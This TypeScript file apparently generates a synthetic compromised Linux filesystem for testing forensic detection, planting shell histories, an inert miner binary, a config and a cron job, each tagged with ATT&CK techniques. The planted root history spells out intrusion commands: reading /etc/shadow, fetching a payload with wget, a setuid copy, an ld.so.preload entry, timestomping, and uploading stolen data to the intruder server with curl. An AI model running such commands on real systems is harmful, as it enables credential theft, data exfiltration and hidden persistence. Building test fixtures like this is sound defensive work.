import { inertElf } from '../tree/inert-elf.ts';
import type { Ground, Planted } from './planting.ts';

/** T02, T03 and T04: what was typed, what it left in a hidden folder, and the job that keeps it alive. */
export function plantMiner(ground: Ground): Planted {
  writeHistories(ground);
  writeWorkFolder(ground);
  writeJob(ground);
  const { operator, intruder } = ground.scenario;
  const { workFolder, miner } = intruder;
  return {
    traces: [
      {
        id: 'T02',
        name: 'shell histories',
        expect: [
          {
            paths: ['/root/.bash_history'],
            attack: ['T1059.004', 'T1105', 'T1548.001', 'T1070.003', 'T1070.004'],
            atLeast: 'medium',
          },
          {
            paths: [`/home/${operator.name}/.bash_history`, '/root/.bash_history'],
            attack: ['T1059.004', 'T1105', 'T1548.001', 'T1070.003', 'T1070.004'],
            atLeast: 'low',
          },
        ],
      },
      {
        id: 'T03',
        name: 'hidden work folder with a miner',
        expect: [
          { paths: [`${workFolder}/${miner}`], attack: ['T1496', 'T1564.001'], atLeast: 'high' },
        ],
      },
      {
        id: 'T04',
        name: 'cron job that keeps the miner alive',
        expect: [{ paths: [intruder.cronFile], attack: ['T1053.003'], atLeast: 'high' }],
      },
    ],
  };
}

function writeHistories({ tree, scenario, at }: Ground): void {
  const { operator, intruder } = scenario;
  const { workFolder, miner, server, setuidCopy } = intruder;
  tree.append(`/home/${operator.name}/.bash_history`, 'sudo -l\nsudo bash\n', at(850));
  const times = { born: at(870), modified: at(1900), changed: at(1900) };
  tree.file(
    '/root/.bash_history',
    [
      'unset HISTFILE',
      'id; uname -a; cat /etc/shadow',
      `mkdir -p ${workFolder} && cd ${workFolder}`,
      `wget -q http://${server}/m.tgz -O m.tgz && tar xzf m.tgz`,
      `chmod +x ${miner}; nohup ./${miner} -o stratum+tcp://${intruder.pool} >/dev/null 2>&1 &`,
      `cp ${setuidCopy.of} ${setuidCopy.path}; chmod 4755 ${setuidCopy.path}`,
      `touch -r ${setuidCopy.of} ${setuidCopy.path}`,
      `echo ${intruder.preload} > /etc/ld.so.preload`,
      `tar czf ${intruder.loot} /etc/shadow /srv/db`,
      `curl -s -T ${intruder.loot} http://${server}/up/`,
      `rm -f ${intruder.loot}`,
      '',
    ].join('\n'),
    { mode: 0o600, times },
  );
}

function writeWorkFolder({ tree, scenario, at }: Ground): void {
  const { workFolder, miner, pool } = scenario.intruder;
  const born = (offset: number) => ({ times: { born: at(offset) } });
  tree.folder(workFolder, born(955));
  const text = [
    `stratum+tcp://${pool}`,
    'XMRig/6.21.0',
    'donate-level',
    'randomx',
    'cryptonight',
    'SAMPLE-MINER-INERT',
  ];
  const elf = inertElf({ name: miner, seed: scenario.seed, bytes: 180_000, text });
  tree.file(`${workFolder}/${miner}`, elf, { mode: 0o755, ...born(960) });
  const config = {
    pools: [{ url: `stratum+tcp://${pool}`, user: '44SAMPLEWALLETINERT', pass: 'x' }],
    'donate-level': 1,
  };
  tree.file(`${workFolder}/config.json`, `${JSON.stringify(config)}\n`, born(965));
  const script = `#!/bin/sh\npgrep -x ${miner} >/dev/null || { cd ${workFolder} && nohup ./${miner} >/dev/null 2>&1 & }\n`;
  tree.file(`${workFolder}/run.sh`, script, { mode: 0o755, ...born(970) });
}

function writeJob({ tree, scenario, at }: Ground): void {
  const { cronFile, cronLine } = scenario.intruder;
  const mode = cronLine.startsWith('#!')
    ? 0o755
    : cronFile.startsWith('/var/spool')
      ? 0o600
      : 0o644;
  tree.file(cronFile, `${cronLine}\n`, { mode, times: { born: at(1010) } });
}
